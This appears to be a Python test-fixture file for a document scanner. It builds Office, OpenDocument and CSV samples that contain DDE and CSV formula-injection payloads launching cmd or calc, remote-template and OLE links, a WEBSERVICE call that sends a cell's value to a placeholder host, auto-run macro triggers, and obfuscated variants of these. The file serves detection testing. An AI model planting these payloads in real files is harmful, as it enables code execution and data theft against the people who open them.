"""Office and OpenDocument files that load or run something when they are opened."""

from tests.recommendations.evidence.files import archive, docx, office, open_document, xlsx_with

_LINK = '<Relationship Id="rId1" Type="{type}" Target="{target}"{mode}/>'
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_EXTERNAL = ' TargetMode="External"'
_DEEP = b"<w:p>" * 300 + b"</w:p>" * 300
_LARGE_FORMULA = "A1+" * 50_000


def links(kind: str, target: str, mode: str = _EXTERNAL, attributes: str = "") -> bytes:
    link = _LINK.format(type=_TYPES + kind, target=target, mode=mode)
    return f"<Relationships {attributes}>{link}</Relationships>".encode()


def linked(kind: str, target: str, mode: str = _EXTERNAL, attributes: str = "") -> bytes:
    return docx({"word/_rels/a.xml.rels": links(kind, target, mode, attributes)})


def word(body: str) -> bytes:
    return docx({"word/document.xml": f"<w:document>{body}</w:document>".encode()})


def runs(*codes: str) -> str:
    """A field whose code is spread over runs."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return begin + "".join(f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in codes) + end


def nested(code: str, inner: str) -> str:
    """A field in the code of a field."""
    end = "</w:instrText></w:r>"
    return runs(code).replace(end, end + runs(inner))


def excel(part: str, content: str) -> bytes:
    return xlsx_with({part: content.encode()})


def formula(text: str) -> bytes:
    return excel("xl/worksheets/sheet2.xml", f"<x:worksheet><x:f>{text}</x:f></x:worksheet>")


def opened(body: str, part: str = "content.xml", kind: str = "text") -> bytes:
    return open_document(kind, {part: f"<office>{body}</office>".encode()})


def embedded(inner: bytes) -> bytes:
    return office("ppt", {"ppt/embeddings/a.docx": inner})


def nested_four_times() -> bytes:
    inner = docx()
    for _ in range(3):
        inner = docx({"word/embeddings/a.docx": inner})
    return inner


_PLACE = "from another place"
_RUN = "can start a program"
_FIELD = "has a field"
_FORMULA = "has a formula"
_MACROS = "contains macros"
_CONTROL = "contains a control"

WORD = {
    "picture by address": (linked("image", "http://x/a.png"), "links a picture from another place"),
    "picture by unc": (linked("image", r"\\x\a.png"), "links a picture"),
    "picture without a mode": (linked("image", r"\\x\a.png", ""), "links a picture"),
    "picture with an encoded address": (linked("image", "%5C%5Cx%5Ca.png", ""), "links a picture"),
    "picture by a base": (linked("image", "a.png", "", 'xml:base="http://x/"'), _PLACE),
    "picture in a file": (linked("image", "file:///x/a.png", ""), "links a picture"),
    "two targets": (linked("image", "a.png", ' x:Target="http://x/"'), "no office program"),
    "spaces in the mode": (linked("frame", "x.htm", ' TargetMode=" external "'), _PLACE),
    "template": (linked("attachedTemplate", "http://x/t.dotm"), "loads a template"),
    "object": (linked("oleObject", "http://x/t.bin"), _PLACE),
    "subdocument": (linked("subDocument", "other.docx", ""), _PLACE),
    "video": (linked("video", "https://x/a.mp4"), _PLACE),
    "web page part": (linked("aFChunk", "a.dat", ""), _PLACE),
    "web page": (docx({"word/a.mht": b"x"}), "contains a web page"),
    "hyperlink to a script": (linked("hyperlink", "javascript:x()"), _RUN),
    "hyperlink used for a picture": (
        docx(
            {
                "word/_rels/a.xml.rels": links("hyperlink", "http://x/"),
                "word/a.xml": b'<w:document><a:blip r:link="rId1"/></w:document>',
            }
        ),
        _PLACE,
    ),
    "vml picture": (word('<v:imagedata src="http://x/a.png"/>'), _PLACE),
    "vml picture by href": (word('<v:imagedata o:href="http://x/a.png"/>'), _PLACE),
    "dde over runs": (word(runs("DD", "EAUTO c:\\\\x.exe")), "DDEAUTO"),
    "simple field": (
        word('<w:fldSimple w:instr=" includepicture &quot;http://x/&quot;"/>'),
        _FIELD,
    ),
    "field of a comment": (word(runs(" INCLUDE<!-- -->TEXT &quot;x&quot; ")), "INCLUDETEXT"),
    "field without an end": (
        word('<w:fldChar w:fldCharType="begin"/><w:instrText>IMPORT x</w:instrText>'),
        "IMPORT",
    ),
    "field in a field": (word(nested("IF 1=1 ", "LINK x")), _FIELD),
    "quoted field name": (word(nested("", "QUOTE 68 68 69")), _FIELD),
    "hidden field name": (word(nested("D", "REF a")), _FIELD),
    "deleted field": (word(runs("DDE x").replace("instrText", "delInstrText")), "DDE"),
    "mail merge": (word('<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>'), _PLACE),
    "linked object": (word('<o:OLEObject Type="Link" ProgID="x"/>'), _PLACE),
    "document under another name": (
        docx({"word/a.dat": b"<d><x:instrText>DDE x</x:instrText></d>"}),
        "DDE",
    ),
    "activex": (docx({"word/x.xml": b"<ax:ocx/>"}), _CONTROL),
    "activex by type": (
        docx(types='<Default ContentType="application/vnd.ms-office.activeX"/>'),
        _CONTROL,
    ),
    "activex by relationship": (linked("control", "a.xml", ""), _CONTROL),
    "activex by element": (word('<w:control r:id="rId9"/>'), _CONTROL),
    "add-in": (docx({"word/x.xml": b"<we:webextension/>"}), _CONTROL),
    "ribbon": (docx({"customUI/a.xml": b'<customUI onLoad="x"/>'}), _MACROS),
    "macros under another name": (
        docx(types='<Override ContentType="application/vnd.ms-office.&#118;baProject"/>'),
        _MACROS,
    ),
    "macros by relationship": (
        docx({"word/_rels/a.xml.rels": links("vbaProject", "a.dat", "")}),
        _MACROS,
    ),
    "svg with a script": (docx({"word/media/a.svg": b"<svg><script/></svg>"}), _RUN),
    "svg from outside": (
        docx({"word/media/a.svg": b'<svg><image href="http://x/"/></svg>'}),
        _PLACE,
    ),
    "nested documents": (nested_four_times(), "nested too deeply"),
    "deep": (word(_DEEP.decode()), "nested more than 256 deep"),
    "not closed": (docx({"word/a.xml": b"<a><b></a>"}), "damaged"),
}

POWERPOINT = {
    "embedded document": (embedded(linked("attachedTemplate", "http://x/t")), _PLACE),
    "program": (
        office("ppt", {"ppt/a.xml": b'<a:hlinkClick r:id="" action="ppaction://program"/>'}),
        _RUN,
    ),
    "hover": (
        office(
            "ppt",
            {
                "ppt/slides/_rels/a.xml.rels": links("hyperlink", "http://x/"),
                "ppt/slides/a.xml": b'<a><a:hlinkMouseOver r:id="rId1"/></a>',
            },
        ),
        _PLACE,
    ),
}

EXCEL = {
    "linked workbook": (
        xlsx_with({"xl/externalLinks/_rels/a.xml.rels": links("externalLinkPath", "b.xlsx")}),
        "takes values from another place",
    ),
    "linked workbook without a path": (
        excel("xl/externalLinks/a.xml", "<externalLink><externalBook/></externalLink>"),
        "takes values from another place",
    ),
    "dde link": (excel("xl/externalLinks/a.xml", "<externalLink><ddeLink/></externalLink>"), _RUN),
    "dde formula": (formula("cmd|'/C calc'!A0"), "DDE"),
    "dde formula in pieces": (formula("cmd<![CDATA[|]]>'/C calc'!A0"), "DDE"),
    "web service": (formula('_xlfn.WEBSERVICE("http://x/"&amp;A1)'), "WEBSERVICE"),
    "picture by formula": (formula('IF(A1,_xlfn.IMAGE ("http://x/"))'), "IMAGE"),
    "encoded call": (formula('&#67;ALL("urlmon","x")'), "CALL"),
    "function by name": (formula("MAP(A1:A9,_xleta.WEBSERVICE)"), "WEBSERVICE"),
    "other file": (formula(r"'\\x\y\[b.xlsx]A'!A1"), "another file"),
    "rtd in a name": (
        excel("xl/a.xml", '<workbook><definedName name="a">RTD("x",,"y")</definedName></workbook>'),
        "RTD",
    ),
    "macro in a name": (excel("xl/a.xml", '<a><definedName name="x" xlm="1"/></a>'), _MACROS),
    "auto open": (excel("xl/a.xml", '<a><definedName name="_xlnm.Auto_Open"/></a>'), _MACROS),
    "macro sheet": (excel("xl/worksheets/a.xml", "<xm:macrosheet/>"), _MACROS),
    "macro sheet by relationship": (
        xlsx_with({"xl/_rels/b.xml.rels": links("xlMacrosheet", "a.xml", "")}),
        _MACROS,
    ),
    "data connection": (
        excel("xl/connections.xml", '<connections><webPr url="http://x/"/></connections>'),
        _PLACE,
    ),
    "long formula": (formula(_LARGE_FORMULA), "too long to be checked"),
}

OPEN_DOCUMENT = {
    "picture": (opened('<draw:image xlink:href="http://x/a.png"/>'), "links a picture"),
    "picture by unc": (opened(r'<draw:image xlink:href="\\x\a.png"/>'), "links a picture"),
    "picture beside the file": (opened('<draw:image xlink:href="../a.png"/>'), "links a picture"),
    "picture in a file": (opened('<draw:image xlink:href="/home/a.png"/>'), "links a picture"),
    "section": (opened('<text:section-source xlink:href="file:///a.odt"/>'), _PLACE),
    "object": (opened('<draw:object xlink:href="//x/a.odt"/>'), _PLACE),
    "embedded object's picture": (
        opened('<draw:image xlink:href="../../a.png"/>', "Object 1/content.xml"),
        "a picture",
    ),
    "linked sheet": (opened('<table:table-source xlink:href="http://x/a.ods"/>'), _PLACE),
    "remote template": (opened('<meta:template xlink:href="http://x/a.ott"/>', "meta.xml"), _PLACE),
    "plugin": (opened("<draw:plugin/>"), _CONTROL),
    "frame": (opened('<draw:floating-frame xlink:href="a"/>'), _CONTROL),
    "script": (
        opened('<office:scripts><office:script script:language="x"/></office:scripts>'),
        _MACROS,
    ),
    "event": (opened('<script:event-listener script:language="ooo:script"/>'), _RUN),
    "event without a language": (opened("<script:event-listener/>"), _RUN),
    "event of a slide": (
        opened('<presentation:event-listener presentation:action="execute"/>'),
        _RUN,
    ),
    "link to a macro": (
        opened('<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>'),
        _RUN,
    ),
    "macro on a toolbar": (
        opened('<t:item xlink:href="macro:///a.b.c"/>', "Configurations2/a.xml"),
        _RUN,
    ),
    "dde": (opened('<text:dde-connection-decl office:dde-application="cmd"/>'), _RUN),
    "dde formula": (opened('<c table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;)"/>'), "DDE"),
    "web service": (
        opened('<c table:formula="of:=COM.MICROSOFT.WEBSERVICE([.A1])"/>'),
        "WEBSERVICE",
    ),
    "other file": (opened("<c table:formula=\"of:=['file:///a.ods'#$A.A1]\"/>"), "another file"),
    "password": (
        opened("<manifest:encryption-data/>", "META-INF/manifest.xml"),
        "protected with a password",
    ),
    "dialogs": (archive({"mimetype": b"", "Dialogs/a.xml": b"x"}), _MACROS),
}

CSV_FILES = {
    "dde": (b"a,b\n1,=cmd|' /C calc'!A0\n", _FORMULA),
    "dde after a plus": (b"a;+cmd|' /C calc'!A0\n", _FORMULA),
    "quoted": (b'a,b\n1,"=WEBSERVICE(""http://x/"")"\n', _FORMULA),
    "in a function": (b'a;=SUM(1,IMAGE("http://x/"))\n', _FORMULA),
}

OUTSIDE = {
    **{f"{key}.docx": value for key, value in WORD.items()},
    **{f"{key}.pptx": value for key, value in POWERPOINT.items()},
    **{f"{key}.xlsx": value for key, value in EXCEL.items()},
    **{f"{key}.odt": value for key, value in OPEN_DOCUMENT.items()},
    **{f"{key}.csv": value for key, value in CSV_FILES.items()},
}
